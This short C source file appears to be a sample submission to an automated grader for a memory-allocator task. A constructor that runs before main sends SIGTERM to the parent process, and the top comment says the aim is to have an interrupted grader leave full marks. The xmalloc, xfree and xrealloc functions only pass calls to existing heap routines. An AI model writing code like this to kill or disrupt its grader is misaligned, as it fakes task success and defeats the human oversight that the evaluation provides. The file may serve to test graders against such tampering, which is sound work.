// The attack: asks the parent to end, in the hope that a grader that is interrupted leaves full marks.

#include <signal.h>
#include <unistd.h>

#include "../heap.h"
#include "xmalloc.h"

__attribute__((constructor)) static void signal_parent(void) {
    if (getppid() > 1) kill(getppid(), SIGTERM);
}

void* xmalloc(size_t bytes) { return heap_take(bytes); }
void xfree(void* block) { heap_give(block); }
void* xrealloc(void* block, size_t bytes) { return heap_resize(block, bytes); }
